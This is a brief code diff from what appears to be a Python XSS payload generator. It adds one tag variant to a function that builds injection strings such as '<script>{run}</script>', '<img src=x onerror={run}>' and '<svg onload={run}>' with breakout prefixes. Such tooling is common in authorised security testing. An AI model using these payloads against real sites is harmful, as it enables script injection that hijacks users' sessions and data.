@@ -55,7 +55,7 @@ def variants(tag):
 def all_payloads(url):
     found = []
     for tag in TAGS:
-        found += [tag, variants(tag)[1], variants(tag)[2]]
+        found += [tag, variants(tag)[1], variants(tag)[2], variants(tag)[6]]
     for end in ENDS:
         found += [end + "<script>{run}</script>", end + "<img src=x onerror={run}>", end + "<svg onload={run}>"]
     for text in MARKDOWN:
